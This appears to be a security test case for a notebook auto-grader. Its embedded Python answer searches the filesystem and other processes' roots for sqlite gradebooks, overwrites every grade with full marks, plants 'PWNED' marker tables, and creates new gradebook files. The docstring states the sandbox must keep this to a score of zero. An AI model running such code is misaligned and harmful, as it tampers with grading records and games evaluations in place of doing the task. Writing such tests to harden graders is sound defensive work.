"""Forge the gradebook: every gradebook.db it can reach gets full marks, or a new one is made.

It looks for nbgrader's sqlite gradebook (gradebook.db, *.db, *.sqlite) where a course root
would hold it: up from its folder, beside the repository that `parlab.__file__` names, the
grader's and the tests' temporary roots, /proc/*/cwd and /proc/*/root of every process it
sees, and a bounded search of / (3 s, 40,000 entries). In each it sets every grade to the
cell's maximum (`UPDATE grade SET auto_score = ..., manual_score = ...`) and adds a table holding a
marker; then it tries to create a gradebook.db holding the marker in each parent folder. A
write that lands outside its own private folders is printed after the marker. Its answers
stay blank: only a forged gradebook could give it points.

What must stop it: no gradebook is mounted in the sandbox, the repository's folders that
are (lib/, the venv) are read-only, and the kernel runs as nobody; each worker grades with
its own copy of the gradebook, which only the grader merges. It must score 0 (no more than
the blank release), and no file outside the sandbox may hold the marker.
"""

ANSWERS = {"mean_answer": r'''
import glob
import os
import sqlite3
import sys
import time

import parlab

MARK = "PWN" + "ED-write_gradebook"  # built here, so that the notebook itself never holds it
LIB = os.path.dirname(os.path.dirname(os.path.realpath(parlab.__file__)))
REPO = os.path.dirname(LIB)
SKIP = ("/usr", "/proc", "/sys", "/dev", os.path.realpath(sys.prefix),
        os.path.realpath(sys.base_prefix))
PRIVATE = ("/tmp", "/dev/shm", os.path.expanduser("~"))  # the sandbox's own, thrown away
DEADLINE = time.monotonic() + 3.0
budget = [40_000]
dbs, seen_dirs, forged, tried = set(), set(), [], 0


def under(path, tops):
    return any(path == p or path.startswith(p + "/") for p in tops)


def walk(top, depth=8):
    stack = [(top, 0)]
    while stack and budget[0] > 0 and time.monotonic() < DEADLINE:
        folder, level = stack.pop()
        try:
            st = os.stat(folder)
            if (st.st_dev, st.st_ino) in seen_dirs or under(os.path.realpath(folder), SKIP):
                continue
            seen_dirs.add((st.st_dev, st.st_ino))
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            budget[0] -= 1
            try:
                if entry.is_dir(follow_symlinks=False):
                    if level < depth:
                        stack.append((entry.path, level + 1))
                elif entry.name.endswith((".db", ".sqlite")) and entry.is_file():
                    dbs.add(entry.path)
            except OSError:
                pass


def forge(path):
    """Full marks in the gradebook at `path`, and a table with the marker; True if committed."""
    try:
        con = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=0.5)
        try:
            full = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
            con.execute(f"UPDATE grade SET auto_score = {full}, manual_score = {full}")
        except sqlite3.Error:
            pass  # not a gradebook: still mark it
        con.execute("CREATE TABLE IF NOT EXISTS pwned (mark TEXT)")
        con.execute("INSERT INTO pwned VALUES (?)", (MARK,))
        con.commit()
        con.close()
        return True
    except sqlite3.Error:
        return False


def create(folder):
    """A new gradebook.db in `folder` holding the marker; True if made."""
    path = os.path.join(folder, "gradebook.db")
    if os.path.exists(path):
        return False
    try:
        con = sqlite3.connect(path, timeout=0.5)
        con.execute("CREATE TABLE pwned (mark TEXT)")
        con.execute("INSERT INTO pwned VALUES (?)", (MARK,))
        con.commit()
        con.close()
        return True
    except sqlite3.Error:
        return False


cwd = os.getcwd()
parents = [os.path.normpath(os.path.join(cwd, *[".."] * k)) for k in range(6)]
parents += [REPO, os.path.dirname(REPO), "/root", "/tmp", "/run"]
parents += glob.glob("/tmp/pytest-of-*/pytest-*/*")[:50] + glob.glob("/tmp/parlab-grade-*/*")
for folder in parents:
    dbs.update(glob.glob(os.path.join(folder, "*.db")))
for pid in sorted(os.listdir("/proc"))[:2000]:
    if pid.isdigit():
        for link in ("cwd", "root"):
            walk(f"/proc/{pid}/{link}")
for top in (cwd, "/run", "/tmp", "/root", "/home", "/work", "/srv", "/mnt", "/opt", "/var", "/"):
    walk(top)

for path in sorted(dbs)[:200]:
    tried += 1
    if forge(path) and not under(os.path.realpath(path), PRIVATE):
        forged.append(path)
for folder in dict.fromkeys(parents):
    tried += 1
    if create(folder) and not under(os.path.realpath(folder), PRIVATE):
        forged.append(os.path.join(folder, "gradebook.db"))

for path in forged:
    print(f"{MARK} wrote {path}")
print(f"write_gradebook: {len(dbs)} databases found, {tried} writes tried, "
      f"{len(forged)} outside the sandbox's own folders")
'''}
MAX_SECONDS = 40
